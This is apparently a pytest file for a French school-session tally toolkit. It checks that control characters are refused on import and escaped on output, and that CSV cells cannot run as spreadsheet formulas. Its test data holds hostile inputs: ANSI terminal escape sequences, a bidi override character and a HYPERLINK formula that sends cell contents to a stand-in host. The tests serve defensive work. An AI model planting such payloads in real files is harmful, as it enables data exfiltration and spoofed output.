"""Issue 12, failures 8 and 12: control characters are refused on input with their
place (bundles, CSV, content) and shown escaped on output; CSV cells never run as
spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import textwrap

import pytest

from harcelement_kit.cli import main
from harcelement_kit.tally.exchange import ImportRefused, export_bundle, import_file
from harcelement_kit.tally.store import Store

from tally_helpers import rebundle, seance, seances_csv

NASTY = ["Coll\x1b[2J\x1b[31mège", "Lycée \u202eenuoM", "École\x00", "Collège\x9b31m"]


@pytest.mark.parametrize("name", NASTY)
def test_an_imported_etablissement_with_control_characters_is_refused_with_its_place(tmp_path, name):
    with Store(tmp_path / "poste") as laptop:
        laptop.add_seance(seance())
        raw = export_bundle(laptop)
    path = tmp_path / "e.json"
    path.write_bytes(rebundle(raw, lambda b: b["seances"][0].update(etablissement=name)))
    with Store(tmp_path / "coord") as coord, pytest.raises(ImportRefused) as refused:
        import_file(coord, path)
    bad = next(c for c in name if not c.isprintable() or c == "\u202e")
    assert (
        f"e.json, séance 1 : établissement : caractère de contrôle interdit "
        f"(U+{ord(bad):04X}) en position {name.index(bad) + 1}"
    ) in str(refused.value)


def test_a_csv_row_with_an_escape_sequence_is_refused_with_its_line(tmp_path, capsys):
    path = seances_csv(
        tmp_path,
        "2025-03-10,afev,atelier,college,Collège A,20,60",
        '2025-03-11,afev,atelier,college,"B\x1b]0;titre\x07",20,60',
    )
    assert main(["--donnees", str(tmp_path / "d"), "importer", str(path)]) == 1
    err = capsys.readouterr().err
    assert "ligne 3 : établissement : caractère de contrôle interdit (U+001B) en position 2" in err
    assert "\x1b" not in err


def test_what_reached_the_store_anyway_is_shown_escaped(tmp_path, capsys):
    data = tmp_path / "d"
    with Store(data) as store:  # a store written by an older kit, or by hand
        s = store.add_seance(seance(action="evenement", modules=("qcm",)))
        store.conn.execute(
            "UPDATE seances SET etablissement = ?, modules = ? WHERE id = ?",
            ("Coll\x1b[2J\u202eège\x00", "qcm \x1b[31mrouge", s.id),
        )
    assert main(["--donnees", str(data), "seance", "liste"]) == 0
    listing = capsys.readouterr().out
    assert main(["--donnees", str(data), "bilan"]) == 0
    bilan = capsys.readouterr().out
    for out in (listing, bilan):
        assert "\x1b" not in out and "\u202e" not in out and "\x00" not in out
    assert "Coll⟨U+001B⟩[2J⟨U+202E⟩ège⟨U+0000⟩" in listing and "Coll⟨U+001B⟩[2J" in bilan


def test_content_with_control_characters_is_refused_by_verifier_with_its_line(tmp_path, capsys):
    (tmp_path / "m.yaml").write_text(
        textwrap.dedent("""\
        id: piege
        titre: "Titre \\e[31m rouge"
        description: "Texte \u202e à l'envers"
        ressources: ["3018"]
        activites:
          - id: q
            type: qcm
            titre: Question
            question: "Laquelle ?"
            options:
              - texte: "oui"
                correcte: true
              - texte: "non"
            explication: "Parce que."
        """),
        encoding="utf-8",
    )
    assert main(["verifier", str(tmp_path)]) == 1
    out = capsys.readouterr().out
    assert "m.yaml:2" in out and "caractère de contrôle interdit (U+001B) en position 7" in out
    assert "m.yaml:3" in out and "caractère de contrôle interdit (U+202E)" in out


def test_a_module_title_that_is_a_formula_is_escaped_in_the_csv_bilan(tmp_path, capsys):
    folder = tmp_path / "modules"
    folder.mkdir()
    (folder / "formule.yaml").write_text(
        textwrap.dedent("""\
        id: formule
        titre: '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")'
        description: "Un module au titre piégé."
        ressources: ["3018"]
        activites:
          - id: q
            type: qcm
            titre: "@SUM(1+1)"
            question: "-2+3 ?"
            options:
              - texte: "+1"
                correcte: true
              - texte: "non"
            explication: "Parce que."
        """),
        encoding="utf-8",
    )
    data = tmp_path / "d"
    assert main(["--contenu", str(folder), "verifier"]) == 0  # a title is free text: accepted…
    capsys.readouterr()
    with Store(data) as store:
        s = store.add_seance(seance(modules=("formule",)))
        store.set_count(s.id, "formule", "q", 0, 0, 5)
    assert main(["--contenu", str(folder), "--donnees", str(data), "bilan", "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [c for row in rows for c in row]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)  # …but never run by a spreadsheet
    assert not any(c[:1] in "=+-@" for c in cells)
